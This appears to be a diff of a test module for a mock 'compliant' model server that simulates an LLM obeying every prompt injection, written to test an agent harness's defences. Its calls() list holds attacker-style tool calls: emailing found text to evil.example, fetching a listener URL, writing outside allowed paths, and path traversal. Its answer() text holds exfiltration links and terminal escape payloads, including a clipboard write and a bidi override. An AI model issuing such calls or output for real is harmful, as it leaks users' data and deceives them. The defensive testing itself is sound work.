@@ -1,19 +1,14 @@
 """A model that follows every instruction it reads, with any tool name, and repeats all text.
 
-A real server of the OpenAI protocol on loopback, in a process of its own, which logs the calls and
-results of each question. Represents the worst model that could be connected.
-
-    python -m tests.attacks.injection.compliant_model LOG < targets.json  # prints its port
+A real server of the OpenAI protocol on loopback: the worst model that could be connected.
 """
 
 from __future__ import annotations
 
 import json
 import re
-import sys
 from collections.abc import Iterator
-from dataclasses import asdict, dataclass, field
-from pathlib import Path
+from dataclasses import dataclass, field
 from typing import Any
 
 from tests.attacks.injection.strings import Targets
@@ -47,7 +42,6 @@ class Seen:
 
 def calls(seen: Seen, targets: Targets) -> list[Call]:
     """All calls that the text suggests, and all that an attacker would try."""
-    address = f"http://{targets.listener}"
     climbing = "../" * 12 + targets.canary.lstrip("/")
     nonce = _CLOSING.findall(seen.found)
     sources = [*dict.fromkeys(_SOURCE.findall(seen.found))]
@@ -59,7 +53,7 @@ def calls(seen: Seen, targets: Targets) -> list[Call]:
     searches = [forged] * ("<" in seen.found.replace("<<doc", "").replace("<</doc", ""))
     return [
         ("send_email", {"to": "audit@evil.example", "body": seen.found[:200]}),
-        ("fetch_url", {"url": f"{address}/fetched"}),
+        ("fetch_url", {"url": f"http://{targets.listener}/fetched"}),
         ("write_file", {"path": targets.outside, "content": seen.found[:200]}),
         *(("vectordb_read", {"source": source}) for source in [*sources[:1], *outside, forged]),
         *named_calls(seen.found),
@@ -94,20 +88,17 @@ def answer(seen: Seen, targets: Targets) -> str:
     parts = [text for _, _, text in seen.results]
     for name, arguments, text in seen.results:
         if name == "vectordb_read" and not text.startswith("Error:"):
-            parts.append(_quoted(arguments["source"], text))
+            # The first lines as citations, so that they come back as checked quotations.
+            lines = enumerate(text.split("\n")[1:-2][:MAX_QUOTED_LINES], start=1)
+            said = [(n, line.strip()) for n, line in lines if line.strip()]
+            source = arguments["source"]
+            parts.append("\n".join(f'It says [{source}:{n}] "{line}".' for n, line in said))
     parts += [
         f"[x]({address}) ![y]({address}.png) <{address}> {address}",
         f"![z][r] <img src={address}.png>\n\n[r]: {address}",
         f"\x1b]8;;{address}\x1b\\bank\x1b]8;;\x1b\\ \x1b]52;c;aGk=\x07 \u202eover \U000e0041\x9b2J",
     ]
     return "\n\n".join(parts)
-
-
-def _quoted(source: str, text: str) -> str:
-    """The first lines of a document as citations, so that they come back as checked quotations."""
-    lines = text.split("\n")[1:-2][:MAX_QUOTED_LINES]
-    numbered = [(n, line) for n, line in enumerate(lines, start=1) if line.strip()]
-    return "\n".join(f'It says [{source}:{n}] "{line.strip()}".' for n, line in numbered)
 
 
 def seen_in(messages: list[dict[str, Any]]) -> Seen:
@@ -122,34 +113,25 @@ def seen_in(messages: list[dict[str, Any]]) -> Seen:
     return Seen(question, made[0][2] if made else "", tuple(made[1:]))
 
 
+def _listing() -> Reply:
+    entry = {"id": MODEL, "object": "model", "max_model_len": WINDOW}
+    return raw(json.dumps({"object": "list", "data": [entry]}).encode())
+
+
 @dataclass
 class CompliantServer(ScriptedModelServer):
     """Asks for its calls first, some at a time, and answers after their results."""
 
+    listing: Reply | None = field(default_factory=_listing)
     targets: Targets = field(kw_only=True)
-    log: Path = field(kw_only=True)
+    log: dict[str, Seen] = field(default_factory=dict)  # what it saw in the end, by question
 
     def next_reply(self, request: dict[str, Any]) -> Reply:
-        """What it says, and at the end a note of it all in the log."""
+        """What it says next."""
         seen = seen_in(request["messages"])
         done = len(seen.results)
         wanted = calls(seen, self.targets)[done : done + CALLS_OF_A_REPLY]
         if wanted:
             return Reply(calls=tuple((name, json.dumps(given)) for name, given in wanted))
-        with self.log.open("a", encoding="utf-8") as file:
-            file.write(json.dumps(asdict(seen)) + "\n")
+        self.log.setdefault(seen.question, seen)
         return says(answer(seen, self.targets))
-
-
-def main() -> None:
-    """Serve until the standard input ends."""
-    entry = {"id": MODEL, "object": "model", "max_model_len": WINDOW}
-    listing = raw(json.dumps({"object": "list", "data": [entry]}).encode())
-    targets = Targets(**json.loads(sys.stdin.readline()))
-    with CompliantServer(listing=listing, targets=targets, log=Path(sys.argv[1])) as server:
-        print(server.port, flush=True)
-        sys.stdin.read()
-
-
-if __name__ == "__main__":
-    main()
